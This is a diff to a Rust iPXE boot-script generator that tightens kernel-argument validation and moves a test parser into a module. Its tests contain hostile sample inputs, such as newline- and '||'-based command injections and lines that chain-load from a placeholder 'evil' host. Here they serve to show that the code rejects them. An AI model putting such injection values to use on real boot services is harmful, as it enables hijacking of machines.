@@ -16,6 +16,13 @@
 //! returns an error rather than a script). Free text (banners) is reduced to a harmless
 //! character set instead. An operator's whole custom script is served as written: it is
 //! the operator's program, not a value.
+//!
+//! [`reader`] reads a script the way iPXE does; the tests and the fuzzer (`bootsvc/fuzz`)
+//! check every rendered script against it.
+
+pub mod reader;
+
+use osie_api::{BootParams, MacAddr};
 
 /// Why a value cannot go into a script.
 pub type Unsafe = String;
@@ -47,15 +54,45 @@ pub fn check_word(w: &str) -> Result<(), Unsafe> {
 
 /// Split kernel arguments written as one string (`"console=ttyS0 quiet"`) into safe words.
 /// Only spaces separate; any other whitespace or control character is refused, so a newline
-/// can never start a new command.
+/// can never start a new command, and so is `"`, which the kernel reads as quoting.
 pub fn split_args(s: &str) -> Result<Vec<String>, Unsafe> {
     if let Some(c) = s.chars().find(|c| *c != ' ' && !matches!(c, '!'..='~')) {
         return Err(format!("contains {c:?}: kernel arguments are printable ASCII separated by spaces"));
+    }
+    if s.contains('"') {
+        // The kernel (and the installer reading /proc/cmdline) take `"` as quoting: an
+        // unbalanced one swallows every argument after it, osie.url and osie.mac included.
+        return Err(
+            "contains '\"': the kernel reads quotes as joining words, which would swallow osie.url and osie.mac".into(),
+        );
     }
     s.split(' ')
         .filter(|w| !w.is_empty())
         .map(|w| check_word(w).map(|()| w.to_string()).map_err(|e| format!("argument {w:?} {e}")))
         .collect()
+}
+
+/// The installer's kernel command line: the service's arguments, the machine's, then
+/// `osie.url` and `osie.mac` (last, so they win), each argument a safe word. Refused when the
+/// installer would not read back exactly this URL and MAC from it (an `osie.ip=` it cannot
+/// parse, say): such a machine would boot into an installer that gives up at once.
+pub fn installer_args(
+    base_url: &str,
+    service: &str,
+    machine: Option<&str>,
+    mac: MacAddr,
+) -> Result<Vec<String>, Unsafe> {
+    let mut args = split_args(service)?;
+    if let Some(a) = machine {
+        args.extend(split_args(a)?);
+    }
+    let params = BootParams { url: base_url.to_string(), mac, ip: None, debug: false, rescue: false };
+    args.extend(params.to_args());
+    match BootParams::parse(&args.join(" ")) {
+        Ok(p) if p.url == base_url.trim_end_matches('/') && p.mac == mac => Ok(args),
+        Ok(p) => Err(format!("the installer would read osie.url={} osie.mac={} from it", p.url, p.mac)),
+        Err(e) => Err(format!("the installer could not read it: {e}")),
+    }
 }
 
 /// `Ok` if `url` is a safe word with one of `schemes` (`"http"`, `"https"`…) and a host.
@@ -163,51 +200,7 @@ pub fn banner_text(text: &str) -> String {
 mod tests {
     use super::*;
 
-    /// iPXE's reading of a script, after script.c and exec.c: continuation lines, labels,
-    /// comments, separators. Returns (label, command tokens) per command, before expansion.
-    fn ipxe_commands(script: &str) -> Vec<(Option<String>, Vec<String>)> {
-        let mut out = Vec::new();
-        let mut line = String::new();
-        for raw in script.split('\n') {
-            let raw = raw.strip_suffix('\r').unwrap_or(raw);
-            if let Some(cont) = raw.strip_suffix('\\') {
-                line.push_str(cont);
-                continue;
-            }
-            line.push_str(raw);
-            let mut rest = line.trim_start();
-            let mut label = None;
-            if let Some(l) = rest.strip_prefix(':') {
-                let (name, cmd) = l.split_once(char::is_whitespace).unwrap_or((l, ""));
-                label = Some(name.to_string());
-                rest = cmd;
-            }
-            let mut cmd = Vec::new();
-            for tok in rest.split(|c: char| c.is_ascii_whitespace() || c == '\x0b').filter(|t| !t.is_empty()) {
-                if tok.starts_with('#') {
-                    break;
-                }
-                if matches!(tok, "||" | "&&" | ";") {
-                    out.push((label.take(), std::mem::take(&mut cmd)));
-                    continue;
-                }
-                cmd.push(tok.to_string());
-            }
-            out.push((label, cmd));
-            line.clear();
-        }
-        out.retain(|(l, c)| l.is_some() || !c.is_empty());
-        out
-    }
-
-    fn names(cmds: &[(Option<String>, Vec<String>)]) -> Vec<String> {
-        cmds.iter()
-            .map(|(l, c)| match l {
-                Some(l) => format!(":{l}"),
-                None => c.first().cloned().unwrap_or_default(),
-            })
-            .collect()
-    }
+    use reader::{commands, names};
 
     fn args(v: &[&str]) -> Vec<String> {
         v.iter().map(|s| s.to_string()).collect()
@@ -224,9 +217,9 @@ mod tests {
         })
         .unwrap();
         assert!(s.starts_with("#!ipxe\n"));
-        let cmds = ipxe_commands(&s);
+        let cmds = commands(&s);
         assert_eq!(
-            names(&cmds),
+            names(&s),
             [
                 "echo",
                 ":osie_retry",
@@ -242,7 +235,7 @@ mod tests {
                 "goto"
             ]
         );
-        let kernel = &cmds[2].1;
+        let kernel = &cmds[2].tokens;
         assert_eq!(
             kernel,
             &args(&[
@@ -256,7 +249,10 @@ mod tests {
                 "osie.mac=52:54:00:00:00:01"
             ])
         );
-        assert_eq!(cmds[4].1, args(&["initrd", "--name", "initrd", "http://192.0.2.1:8080/artifacts/initramfs.img"]));
+        assert_eq!(
+            cmds[4].tokens,
+            args(&["initrd", "--name", "initrd", "http://192.0.2.1:8080/artifacts/initramfs.img"])
+        );
     }
 
     #[test]
@@ -288,10 +284,28 @@ mod tests {
     fn split_args_refuses_control_characters() {
         assert_eq!(split_args("  console=tty0   quiet ").unwrap(), args(&["console=tty0", "quiet"]));
         assert_eq!(split_args("").unwrap(), Vec::<String>::new());
-        for bad in ["quiet\nchain http://evil/x", "a\tb", "quiet ${x}", "quiet || shell", "a \\", "x #comment"] {
+        // `!"#…`: found by fuzzing (bootsvc/fuzz, target ipxe): the quote joined everything
+        // after it into one kernel parameter, and the installer found no osie.url.
+        for bad in
+            ["quiet\nchain http://evil/x", "a\tb", "quiet ${x}", "quiet || shell", "a \\", "x #comment", "!\"#$%&'()"]
+        {
             let e = split_args(bad).unwrap_err();
             assert!(!e.is_empty(), "{bad:?}");
         }
+    }
+
+    #[test]
+    fn installer_args_must_read_back() {
+        let mac: MacAddr = "52:54:00:00:00:01".parse().unwrap();
+        let a = installer_args("http://192.0.2.1:8080", "console=ttyS0", Some("osie.debug"), mac).unwrap();
+        assert_eq!(
+            a,
+            args(&["console=ttyS0", "osie.debug", "osie.url=http://192.0.2.1:8080", "osie.mac=52:54:00:00:00:01"])
+        );
+        // An osie.ip the installer cannot parse makes it give up before it does anything.
+        let e = installer_args("http://192.0.2.1:8080", "", Some("osie.ip=nonsense"), mac).unwrap_err();
+        assert!(e.contains("could not read"), "{e}");
+        assert!(installer_args("http://192.0.2.1:8080", "", Some("osie.ip=192.0.2.9/24,192.0.2.1"), mac).is_ok());
     }
 
     #[test]
@@ -320,19 +334,18 @@ mod tests {
     fn hostile_banners_stay_one_echo() {
         for evil in ["n1\nshell", "n1 || shell", "n1 ; shell", "${ip}", "n1 #", "n1\\", "n1\r\nkernel http://evil/"] {
             let s = local_boot(evil);
-            let cmds = ipxe_commands(&s);
-            assert_eq!(names(&cmds), ["echo", "exit"], "{evil:?} -> {s:?}");
+            assert_eq!(names(&s), ["echo", "exit"], "{evil:?} -> {s:?}");
             assert!(!s.contains("${"), "{s}");
             let s = chain("http://s/x.ipxe", evil).unwrap();
-            assert_eq!(names(&ipxe_commands(&s)), ["echo", "chain", "goto", "exit", ":osie_failed", "echo", "exit"]);
+            assert_eq!(names(&s), ["echo", "chain", "goto", "exit", ":osie_failed", "echo", "exit"]);
         }
     }
 
     #[test]
     fn chain_and_local_boot_shapes() {
         let s = chain("http://192.0.2.9/boot.ipxe", "node1").unwrap();
-        let cmds = ipxe_commands(&s);
-        assert_eq!(cmds[1].1, args(&["chain", "--autofree", "http://192.0.2.9/boot.ipxe"]));
+        let cmds = commands(&s);
+        assert_eq!(cmds[1].tokens, args(&["chain", "--autofree", "http://192.0.2.9/boot.ipxe"]));
         assert_eq!(
             local_boot("unknown machine"),
             "#!ipxe\necho osie: unknown machine, booting from local disk\nexit\n"
